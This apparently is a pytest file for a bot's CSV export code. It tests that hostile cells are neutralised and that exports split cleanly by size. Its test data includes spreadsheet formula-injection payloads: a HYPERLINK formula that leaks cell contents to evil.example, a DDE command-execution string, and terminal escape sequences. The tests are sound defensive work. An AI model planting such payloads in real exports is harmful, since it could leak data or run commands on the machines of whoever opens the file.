"""CSV exports: hostile cells are made inert and parse back; files split by size."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from bot.config.models import ExportSettings
from bot.core.export import (
    BOM_BYTES,
    ENCODING,
    SEARCH_COLUMNS,
    CsvExport,
    cell,
    records_csv,
    row_line,
    safe_text,
    search_csv,
    split_csv,
)
from bot.core.requests import SearchRequest
from bot.core.snapshot import Snapshot

HOSTILE = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
     "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\n=1+1"),  # a CR opening a cell is a line end: made \n, and prefixed
    ("\x00=cmd", "'=cmd"),  # a NUL hiding a formula is removed first, then the prefix
    ("a, \"quoted\", b", "a, \"quoted\", b"),
    ("line one\r\nline two\rline three", "line one\nline two\nline three"),
    ("red \x1b[31malert\x1b[0m \x1b]0;title\x07 \x9b2J done",
     "red [31malert[0m ]0;title 2J done"),
    ("tab\tinside is kept", "tab\tinside is kept"),
    ("ünïcödé — “quotes” 漢字", "ünïcödé — “quotes” 漢字"),
    ("a = b is fine mid-cell", "a = b is fine mid-cell"),
]


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(ENCODING), newline="")))


@pytest.mark.parametrize(("raw", "expected"), HOSTILE)
def test_hostile_text_becomes_an_inert_cell(raw: str, expected: str) -> None:
    assert safe_text(raw) == expected


def test_hostile_rows_parse_back_to_the_expected_cells() -> None:
    header = ["doc_id", "text", "n"]
    rows = [(f"d{i}", raw, i) for i, (raw, _) in enumerate(HOSTILE)]
    built = split_csv(header, rows, max_bytes=1 << 20, max_parts=1)
    [part] = built.parts
    assert part.data.startswith("\ufeff".encode()) and part.rows == len(HOSTILE)
    assert b"\x00" not in part.data and b"\x1b" not in part.data
    parsed = parse(part.data)
    assert parsed[0] == header
    assert parsed[1:] == [[f"d{i}", want, str(i)] for i, (_, want) in enumerate(HOSTILE)]
    for _, text, _n in parsed[1:]:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_every_cell_is_quoted_and_numbers_are_not_prefixed() -> None:
    assert row_line(["a", -3, 2.5, None, True]) == '"a","-3","2.5","","true"\r\n'
    assert cell(datetime(2018, 5, 16, 12, 30)) == "2018-05-16T12:30:00"
    assert cell([["doc", 3]]) == '[["doc", 3]]'
    assert cell({"b": 1, "a": "=x"}) == '{"a": "=x", "b": 1}'  # JSON opens with {: safe
    assert cell(["=1+1"]) == '["=1+1"]'


def test_split_keeps_every_file_under_the_limit_with_its_header() -> None:
    header = ["n", "text"]
    rows = [(i, "x" * 90) for i in range(100)]
    line = len(row_line(rows[0]).encode())
    head = len(row_line(header).encode())
    per_file = 10
    limit = BOM_BYTES + head + per_file * line + line // 2  # room for 10 rows, not 11
    built = split_csv(header, rows, max_bytes=limit, max_parts=4, total=250)
    assert [p.rows for p in built.parts] == [10, 10, 10, 10]
    assert all(len(p.data) <= limit for p in built.parts)
    assert all(parse(p.data)[0] == header for p in built.parts)
    numbers = [int(r[0]) for p in built.parts for r in parse(p.data)[1:]]
    assert numbers == list(range(40))  # in order, none twice, none lost inside the 40
    assert (built.rows, built.given, built.total, built.over_limit) == (40, 100, 250, 60)
    assert built.describe("matching paragraphs") == (
        "the first 40 of 250 matching paragraphs; the other 60 are over the attachment "
        "size limit")


def test_describe_says_when_the_row_cap_cut_the_export() -> None:
    assert CsvExport((), 5, 5, 5).describe("rows") == "5 rows"
    assert CsvExport((), 5, 5, 12).describe("rows") == (
        "the first 5 of 12 rows (exports.max_rows)")


def test_a_row_too_big_for_any_file_is_left_out_and_counted() -> None:
    rows = [(1, "short"), (2, "y" * 5000), (3, "short too")]
    built = split_csv(["n", "text"], rows, max_bytes=1024, max_parts=2)
    assert [r[0] for r in parse(built.parts[0].data)[1:]] == ["1", "3"]
    assert built.over_limit == 1
    with pytest.raises(ValueError, match="cannot hold the header"):
        split_csv(["h" * 2000], rows, max_bytes=1024, max_parts=1)


def test_no_rows_is_one_file_with_just_the_header() -> None:
    built = split_csv(["a", "b"], [], max_bytes=1024, max_parts=1)
    assert [parse(p.data) for p in built.parts] == [[["a", "b"]]]
    assert built.rows == 0


def test_records_csv_uses_the_first_records_keys() -> None:
    records = [{"query": "=cmd", "count": 2}, {"query": "fine", "count": 0}]
    built = records_csv(records, ExportSettings())
    assert parse(built.parts[0].data) == [["query", "count"], ["'=cmd", "2"], ["fine", "0"]]


def test_search_csv_is_every_match_ranked_as_search_ranks(seed_snapshot: Snapshot) -> None:
    settings = seed_snapshot.settings
    request = SearchRequest.parse(settings, "Idlib air strikes", limit=2)
    page = seed_snapshot.search(SearchRequest.parse(settings, "Idlib air strikes", limit=25))
    built = search_csv(seed_snapshot, request, ExportSettings(max_rows=25))
    rows = parse(built.parts[0].data)
    assert rows[0] == list(SEARCH_COLUMNS)
    assert built.total == page.total and built.rows == min(25, page.total) > 2
    assert [(r[0], int(r[4])) for r in rows[1:]] == [(h.doc_id, h.paragraph) for h in page.hits]
    assert [float(r[5]) for r in rows[1:]] == [round(h.score, 4) for h in page.hits]
    capped = search_csv(seed_snapshot, request, ExportSettings(max_rows=3))
    assert capped.rows == 3 and capped.total == page.total
    assert "(exports.max_rows)" in capped.describe("matching paragraphs")


def test_logs_csv_cells_are_made_inert(capsys: pytest.CaptureFixture[str]) -> None:
    from bot.cli.logs import emit

    rows: list[dict[str, object]] = [
        {"query": "=HYPERLINK(\"http://evil.example\")", "feedback": -1, "latency_ms": 12.5,
         "command": "@search", "top_hits": [["doc", 2]], "error_id": None},
        {"query": "plain words", "feedback": 1, "latency_ms": 3.0, "command": "search",
         "top_hits": [], "error_id": "ab12"}]
    emit("recent", rows, "csv")
    parsed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert parsed == [
        ["query", "feedback", "latency_ms", "command", "top_hits", "error_id"],
        ["'=HYPERLINK(\"http://evil.example\")", "-1", "12.50", "'@search", '[["doc", 2]]', ""],
        ["plain words", "1", "3.00", "search", "[]", "ab12"]]  # numbers never prefixed
